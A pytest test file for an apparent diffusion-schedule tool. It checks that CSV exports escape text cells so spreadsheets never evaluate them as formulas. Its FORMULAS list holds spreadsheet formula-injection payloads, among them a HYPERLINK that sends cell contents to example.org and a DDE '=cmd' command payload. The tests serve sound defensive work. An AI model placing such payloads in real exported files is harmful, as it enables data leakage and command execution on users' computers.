"""Texts in tables: no spreadsheet computes one, and each comes back as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ddpm_studio.commands.training import _csv as training_csv
from ddpm_studio.diffusion import Schedule
from ddpm_studio.diffusion.steps.steps_spec import StepsSpec
from ddpm_studio.diffusion.training.objective import PLAIN
from ddpm_studio.files.betas import read_named_schedules
from ddpm_studio.files.export import export_bytes
from ddpm_studio.files.steps.step_formats import NamedSteps, steps_bytes
from ddpm_studio.files.table_rows import TAB, NumberCell, guarded, row_lines, unguarded

FORMULAS = (
    '=HYPERLINK("https://example.org/?"&A1,"more")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\tx",
    "\r=1",
    "\n=1",
    " =1+1",
    "\u00a0=1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
)
HARMLESS = (
    "cosine",
    "a;b",
    "a\tb",
    '";"',
    "two\nlines; more",
    "'90s",
    "'",
    "''",
    "",
    "a=1",
    "1-2",
    "σ @ 3",
    "x\r\ny",
    "“=”",
)
NAMES = (*FORMULAS, *HARMLESS, *(f"'{name}" for name in FORMULAS), *(f"''{name}" for name in FORMULAS))
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")


def cells_of(text: str, mark: str = ",") -> list[list[str]]:
    """The cells as a spreadsheet has them."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=mark))


def is_computed(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula: with blanks before it some do."""
    return cell.startswith(DANGEROUS) or cell.strip().startswith(DANGEROUS)


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("mark", [",", TAB, ";"])
def test_no_text_is_computed_and_each_comes_back(name: str, mark: str) -> None:
    ((cell, other),) = cells_of("".join(row_lines([[name, "end"]], mark)), mark)
    assert not is_computed(cell)
    assert (unguarded(cell), other) == (name, "end")


@given(st.text(st.sampled_from("'=+-@＝ \t\r\nab1")))
def test_what_is_guarded_is_harmless_and_the_way_back_is_exact(text: str) -> None:
    assert not is_computed(guarded(text))
    assert unguarded(guarded(text)) == text


def test_numbers_stay_numbers() -> None:
    row = [-1, -0.5, float("-inf"), 1e-5, NumberCell("-2"), None, ""]
    assert list(row_lines([row])) == ["-1,-0.5,-inf,1e-05,-2,,\n"]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_that_is_exported_is_no_formula_and_is_read_again(name: str, tmp_path: Path) -> None:
    schedules = [Schedule("linear", 3), Schedule("cosine", 2)]
    content = export_bytes(schedules, ["betas", "log_snr"], "csv", [name, "other"])
    assert not [cell for row in cells_of(content.decode())[1:] for cell in row[:2] if is_computed(cell)]
    path = tmp_path / "named.csv"
    path.write_bytes(content)
    assert [read for _, read in read_named_schedules(path)] == [name, "other"]


def test_texts_of_steps_and_objectives_are_guarded_as_well() -> None:
    schedule = Schedule("linear", 1000)
    levels = StepsSpec.parse("trailing:steps=2").levels(schedule)
    steps = steps_bytes([NamedSteps(FORMULAS[0], levels), NamedSteps("trailing", levels)], "csv").decode()
    assert cells_of(steps)[1][0] == f"'{FORMULAS[0]}"
    # Numbers below 0 are there as they were.
    assert float(cells_of(steps)[1][5]) == levels.log_snr[0] < 0
    weights = cells_of(training_csv([(schedule, PLAIN)]))
    assert float(weights[1000][3]) == schedule.coefficients.log_snr[-1] < 0
